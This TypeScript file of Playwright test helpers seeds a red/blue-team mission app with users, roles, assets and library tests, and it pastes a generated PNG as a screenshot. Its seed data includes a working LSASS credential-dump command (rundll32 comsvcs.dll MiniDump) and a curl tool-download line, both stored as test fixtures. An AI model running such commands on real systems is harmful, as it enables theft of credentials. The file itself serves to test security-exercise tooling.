import { deflateSync } from 'node:zlib';
import type { APIRequestContext, Page } from '@playwright/test';
import { API_HEADERS, apiSignIn, strongPassword, type Credentials } from './auth-helpers.js';
import { expect } from './fixtures.js';
import { importAttack, post } from './mission-helpers.js';

/** Seeding for the execution spec: a mission with red and blue members, through the API. */

export interface Member extends Credentials {
  id: string;
  display_name: string;
}

/** Creates a user with a global role (by key); returns the credentials and the user id. */
export async function createMember(
  api: APIRequestContext,
  user: { email: string; display_name: string },
  roleKey: string,
): Promise<Member> {
  const roles = await api.get('/api/roles', { headers: API_HEADERS });
  const { items } = (await roles.json()) as { items: { id: string; key: string | null }[] };
  const role = items.find((r) => r.key === roleKey);
  expect(role, roleKey).toBeTruthy();
  const password = strongPassword('member');
  const created = await post<{ user: { id: string } }>(api, '/api/users', {
    ...user,
    password,
    role_ids: [role?.id],
  });
  return { ...user, password, id: created.user.id };
}

/** Signs `page`'s context in as `member`, replacing the password set by the admin once. */
export async function activate(page: Page, member: Member): Promise<Member> {
  await apiSignIn(page, member);
  const password = strongPassword('member');
  const res = await page.request.post('/api/auth/password', {
    headers: API_HEADERS,
    data: { current_password: member.password, new_password: password },
  });
  expect(res.status(), await res.text()).toBe(200);
  const next = { ...member, password };
  await apiSignIn(page, next);
  return next;
}

export interface SeededMission {
  id: string;
  name: string;
  /** The plan's tests in order. */
  tests: { id: string; name: string }[];
}

/** A mission with two library tests, assets, and `members` with their mission roles. */
export async function seedMission(
  api: APIRequestContext,
  members: { user: Member; role: string }[],
): Promise<SeededMission> {
  await importAttack(api, 'mini-enterprise.json');
  const first = await post<{ id: string }>(api, '/api/library/tests', {
    name: 'Credential dumping with LSASS minidump',
    attack_ids: ['T1059.001'],
    platforms: ['Windows'],
    objective: 'Show whether a minidump of LSASS is seen by the EDR.',
    procedure_md:
      '1. Open an elevated PowerShell on the target.\n2. Run the command below.\n3. Copy the dump back and note the hash.',
    expected_blue_md: 'EDR alert on **LSASS access** (Sysmon 10, GrantedAccess 0x1FFFFF).',
    executor: {
      name: 'powershell',
      command: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump #{pid} #{output} full',
      elevation_required: true,
    },
    input_arguments: [
      { name: 'pid', type: 'integer', default: '672', description: 'LSASS process id' },
      { name: 'output', type: 'path', default: 'C:\\Temp\\lsass.dmp', description: 'Dump file' },
    ],
  });
  const second = await post<{ id: string }>(api, '/api/library/tests', {
    name: 'Ingress tool transfer with curl',
    attack_ids: ['T1105'],
    platforms: ['Linux'],
    executor: { name: 'bash', command: 'curl -o /tmp/tool https://example.org/tool' },
  });
  const client = await post<{ id: string }>(api, '/api/clients', { name: 'Initech' });
  const name = 'Operation Osprey';
  const mission = await post<{ id: string }>(api, '/api/missions', { client_id: client.id, name });
  const base = `/api/missions/${mission.id}`;
  await post(api, `${base}/scenarios`, {
    test_template_ids: [first.id, second.id],
    name: 'Credential access',
  });
  for (const m of members) await post(api, `${base}/members`, { user_id: m.user.id, role: m.role });
  for (const [kind, assetName] of [
    ['source', 'kali-01 (10.0.5.20)'],
    ['target', 'WS-FIN-042'],
    ['account', 'INITECH\\svc_backup'],
    ['red_tool', 'Cobalt Strike 4.9'],
  ])
    await post(api, `${base}/assets`, { kind, name: assetName });
  const plan = await api.get(`${base}/plan`, { headers: API_HEADERS });
  const { scenarios } = (await plan.json()) as {
    scenarios: { tests: { id: string; snapshot_name: string }[] }[];
  };
  const tests = scenarios.flatMap((s) => s.tests.map((t) => ({ id: t.id, name: t.snapshot_name })));
  return { id: mission.id, name, tests };
}

/** A small valid PNG (a purple-to-cyan gradient), to paste as a screenshot. */
export function gradientPng(width = 96, height = 60): Buffer {
  const table = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc = (buf: Buffer) => {
    let c = 0xffffffff;
    for (const b of buf) c = (table[(c ^ b) & 0xff] ?? 0) ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
  };
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc(body));
    return Buffer.concat([len, body, sum]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  const rows: number[] = [];
  for (let y = 0; y < height; y++) {
    rows.push(0);
    for (let x = 0; x < width; x++) {
      const t = x / (width - 1);
      rows.push(Math.round(121 * (1 - t) + 21 * t), Math.round(80 * (1 - t) + 170 * t), 200);
    }
  }
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(Buffer.from(rows))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Pastes `png` into the page as a clipboard screenshot (a ClipboardEvent holding a File). */
export async function pastePng(page: Page, png: Buffer, selector?: string): Promise<void> {
  await page.evaluate(
    ({ base64, selector: sel }) => {
      const bytes = Uint8Array.from(atob(base64), (c) => c.charCodeAt(0));
      const data = new DataTransfer();
      data.items.add(new File([bytes], 'image.png', { type: 'image/png' }));
      const event = new ClipboardEvent('paste', {
        clipboardData: data,
        bubbles: true,
        cancelable: true,
      });
      (sel ? document.querySelector(sel) : document)?.dispatchEvent(event);
    },
    { base64: png.toString('base64'), selector: selector ?? null },
  );
}

/** Console and page errors of `page` (the fixture only watches the default page). */
export function watchErrors(page: Page): string[] {
  const errors: string[] = [];
  page.on('console', (msg) => {
    if (msg.type() === 'error') errors.push(`console.error: ${msg.text()}`);
  });
  page.on('pageerror', (err) => errors.push(`pageerror: ${err.message}`));
  return errors;
}
